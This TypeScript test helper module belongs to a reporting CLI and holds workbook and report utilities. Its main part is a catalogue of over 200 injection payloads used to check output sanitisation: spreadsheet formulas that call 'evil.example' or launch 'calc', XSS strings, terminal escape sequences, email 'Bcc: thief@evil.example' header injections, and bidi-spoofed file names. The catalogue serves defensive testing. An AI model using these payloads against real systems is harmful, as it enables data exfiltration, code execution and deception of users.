import { readXlsx, writeXlsx } from 'hucre/xlsx';
import { commandNames } from '../../src/cli/program.js';
import type { Report } from '../../src/reports/report.js';
import { type ReportJson, reportJsonSchema } from '../../src/reports/report-json.js';
import { listSheetName } from '../../src/reports/review-list.js';
import { renderJson } from '../../src/reports/to-report-json.js';

/** All that comes, as one. */
export async function collectBytes(chunks: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const chunk of chunks) all.push(chunk);
  return Buffer.concat(all);
}

/** What comes in chunks as one text. */
export async function joinChunks(chunks: Iterable<string> | AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
}

/** What `report.json` holds; throws where it does not follow the schema. */
export async function readReportJson(report: Report): Promise<ReportJson> {
  return reportJsonSchema.parse(JSON.parse(await joinChunks(renderJson(report))));
}

/** A workbook as somebody saves it who has decided about its rows: `decide` gives decision and reason by the customer's reference. */
export async function fillInList(
  bytes: Uint8Array,
  decide: (reference: string) => readonly [decision: string, reason: string] | null,
): Promise<Uint8Array> {
  const { sheets } = await readXlsx(bytes);
  return writeXlsx({
    sheets: sheets.map(({ name, rows }) => {
      const header = rows.find((row) => row.includes('Disposition')) ?? [];
      const [reference, decision, reason] = ['Customer', 'Disposition', 'Reason'].map((title) => header.indexOf(title));
      if (name !== listSheetName || reference === undefined) return { name, rows };
      const filled = rows.map((row) => {
        const said = row === header ? null : decide(String(row[reference] ?? ''));
        return said === null
          ? row
          : header.map((_, at) => (at === decision ? said[0] : at === reason ? said[1] : (row[at] ?? null)));
      });
      return { name, rows: filled };
    }),
  });
}

/** What a payload attacks. */
type PayloadKind = 'formula' | 'html' | 'terminal' | 'header' | 'bidi';

/** A text that does harm where it is taken for more than a text. */
interface Payload {
  kind: PayloadKind;
  text: string;
}

const spaces = ['', ' ', '\t', '\n', '\r\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u0000'];
const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"see")',
  "=cmd|' /C calc'!A0",
  '+cmd|calc',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '−1+1',
];

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  "' onmouseover='alert(1)",
  '" onfocus="alert(1)" autofocus="',
  '</title></style><svg/onload=alert(1)>',
  '</textarea><iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<base href="http://evil.example/">',
  '<meta http-equiv=refresh content="0;url=http://evil.example">',
  '<link rel=stylesheet href=http://evil.example/x.css>',
  '<style>@import "http://evil.example/x.css"</style>',
  '<form action=http://evil.example><input name=p></form>',
  '<object data="http://evil.example/x.swf"></object>',
  '<embed src="http://evil.example/x.swf">',
  '<math><mi//xlink:href="javascript:alert(1)">',
  '<svg><script>alert&#40;1)</script>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<table background="http://evil.example/x.png">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '\\u003cscript\\u003ealert(1)',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<b>bold</b>',
  '</body></html><h1>All clear</h1>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}',
  '<%= 7*7 %>',
  '`<img src=x>`',
  '<img src="http://evil.example/seen.gif" width=1>',
  '<p style="display:none">',
  '<font color=white>',
  '--><script>alert(1)</script>',
];

const terminal = [
  '\u001b[2J',
  '\u001b[H\u001b[2Jall clear',
  '\u001b[31mred\u001b[0m',
  '\u001b[8mhidden\u001b[28m',
  '\u001b[1A\u001b[2Kgone',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001bP+q544e\u001b\\',
  '\u001b[6n',
  '\u001bc',
  '\u001b[?1049h',
  '\u001b[20~',
  '\u009b31mred',
  '\u009d0;title\u009c',
  '\u0090q\u009c',
  'name\rPASSED',
  'name\u0008\u0008\u0008\u0008all',
  'bell\u0007',
  'tab\u000bvertical',
  'feed\u000cfeed',
  'so\u000eshift\u000f',
  'nul\u0000nul',
  'del\u007f',
  'nel\u0085line',
  'name\nrun complete',
  'name\u2028next line',
  'name\u2029next paragraph',
];

const headers = [
  'Bcc: thief@evil.example',
  'To: thief@evil.example',
  'Subject: [COMPLETE] nothing to review',
  'Content-Type: text/html',
  'X-Priority: 1',
];
const breaks = ['\r\n', '\n', '\r', '\r\n\r\n', '\n\n', '\u2028', '\u0085', '\u000b'];
const headerTexts = [
  ...breaks.flatMap((end) => headers.map((header) => `retail${end}${header}`)),
  'retail%0d%0aBcc: thief@evil.example',
  'retail\r\n Bcc: thief@evil.example',
  '=?utf-8?Q?=0D=0ABcc:_thief@evil.example?=',
  '"retail" <thief@evil.example>',
  'retail, thief@evil.example',
  '\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n',
  'retail\r\n--boundary\r\nContent-Type: text/html\r\n\r\n<h1>all clear</h1>',
  'retail\u0000\r\nBcc: thief@evil.example',
];

const turners = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'];
const bidi = [
  ...turners.map((turner) => `invoice${turner}fdp.exe`),
  ...turners.map((turner) => `${turner}reviewed\u202c\u2069`),
  'Amina\u202e daddaH',
  '\u2067clear\u2069 not',
  '\ufeffAmina',
  'lone\ud800surrogate',
  '\udc00lone',
];

const of = (kind: PayloadKind, texts: readonly string[]): readonly Payload[] => texts.map((text) => ({ kind, text }));

/** More than 200 of them, each different. */
export const injectionPayloads: readonly Payload[] = [
  ...of('formula', [
    ...spaces.flatMap((space) => formulas.slice(0, 6).map((formula) => `${space}${formula}`)),
    ...formulas.slice(6),
    ...[';', '\t', '\n', '|', '\r\n', '\u2028'].map((end) => `Smith${end}=1+1`),
    '"=1+1"',
    "'=1+1",
    '",=1+1,"',
  ]),
  ...of('html', html),
  ...of('terminal', terminal),
  ...of('header', headerTexts),
  ...of('bidi', bidi),
];

/** What no reader may be sent without seeing it, however it is rendered. */
export const hiddenCharacters = /[\p{Cc}\p{Cs}\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;

/** The commands in a text, page or document that do not name the organisation; `init`, `demo`, `sandbox` and `db` need not. */
export function listUnnamedCommands(text: string, organisation: string): readonly string[] {
  const names = commandNames.filter((name) => !['init', 'demo', 'sandbox', 'db'].includes(name));
  const printed = text.matchAll(
    new RegExp(`\\bnightscreen (--organisation ${organisation} )?(${names.join('|')})\\b`, 'g'),
  );
  return [...printed]
    .filter(([, named]) => named === undefined)
    .map(({ index }) => text.slice(Math.max(0, index - 60), index + 80));
}
